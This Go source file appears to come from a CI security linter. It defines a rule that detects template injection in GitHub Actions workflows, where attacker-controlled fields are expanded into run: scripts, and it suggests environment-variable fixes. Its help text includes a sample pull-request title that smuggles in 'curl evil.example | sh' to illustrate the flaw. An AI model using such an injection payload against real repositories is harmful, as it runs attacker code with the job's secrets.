package cicheck

import (
	"strings"

	"github.com/buildwall/buildwall/internal/ciconfig"
	"github.com/buildwall/buildwall/internal/finding"
)

var templateInjectionRule = finding.Rule{
	ID:       "template-injection",
	Severity: finding.SeverityHigh,
	Summary:  "An attacker-controllable ${{ }} expression (pull request title, branch name, issue or comment body, commit message, ...) is expanded inside run: or an actions/github-script script:.",
	Fix:      "Pass the value through an environment variable (env: TITLE: ${{ github.event.pull_request.title }}) and use \"$TITLE\" in the script.",
	Help: "`${{ }}` is substituted into the script text before the shell or JavaScript runs, so a pull request titled " +
		"`a\"; curl evil.example | sh; \"` runs the attacker's command with the job's token and secrets (Ultralytics 2024, Nx 2025). " +
		"An environment variable is passed as data and never parsed as code. The list of attacker-controllable contexts is actionlint's, " +
		"plus the workflow_run fields a pull request's author controls; values inside contains()/startsWith()/endsWith() are safe.",
}

var templateInjection = Rule{Rule: templateInjectionRule, Workflow: checkTemplateInjectionWorkflow, Action: checkTemplateInjectionAction}

func checkTemplateInjectionWorkflow(c *Context, w *ciconfig.Workflow, report func(finding.Finding)) {
	for _, s := range workflowSteps(w) {
		checkTemplateInjectionStep(c, w.Source, s.step, report)
	}
}

func checkTemplateInjectionAction(c *Context, a *ciconfig.Action, report func(finding.Finding)) {
	for _, s := range actionSteps(a) {
		checkTemplateInjectionStep(c, a.Source, s.step, report)
	}
}

func checkTemplateInjectionStep(c *Context, src *ciconfig.Source, s *ciconfig.Step, report func(finding.Finding)) {
	if s.Run != nil {
		checkInjectedScript(c, src, s.Run, "run:", report)
	}
	if usesAction(s, "actions/github-script") {
		if p := s.Input("script"); p != nil && p.Value != nil {
			checkInjectedScript(c, src, p.Value, "actions/github-script script:", report)
		}
	}
}

func checkInjectedScript(c *Context, src *ciconfig.Source, script *ciconfig.String, where string, report func(finding.Finding)) {
	if !strings.Contains(script.Value, "${{") {
		return
	}
	for _, e := range expressions(script.Value) {
		paths := untrustedInputs(e.Node)
		if len(paths) == 0 {
			continue
		}
		text := script.Value[e.Start:e.End]
		env := envName(paths[0])
		f := c.at(&templateInjectionRule, src.Locate(script, e.Start),
			where+" expands "+text+", which an outsider controls ("+strings.Join(paths, ", ")+"): its text becomes part of the script and can run commands",
			"Pass it through an environment variable: add `env: "+env+": "+text+"` to the step and use \""+shellRef(where, env)+"\" instead of the expression.")
		report(f)
	}
}

// envName derives an environment variable name from a context path:
// github.event.pull_request.title gives PR_TITLE.
func envName(path string) string {
	parts := strings.Split(path, ".")
	last := parts[len(parts)-1]
	prefix := ""
	for _, p := range parts[:len(parts)-1] {
		switch p {
		case "pull_request":
			prefix = "PR_"
		case "issue":
			prefix = "ISSUE_"
		case "comment", "review_comment":
			prefix = "COMMENT_"
		case "review":
			prefix = "REVIEW_"
		case "head_commit", "commits":
			prefix = "COMMIT_"
		case "head":
			prefix += "HEAD_"
		case "discussion":
			prefix = "DISCUSSION_"
		}
	}
	return strings.ToUpper(prefix + strings.ReplaceAll(last, "-", "_"))
}

func shellRef(where, env string) string {
	if strings.HasPrefix(where, "actions/github-script") {
		return "process.env." + env
	}
	return "$" + env
}
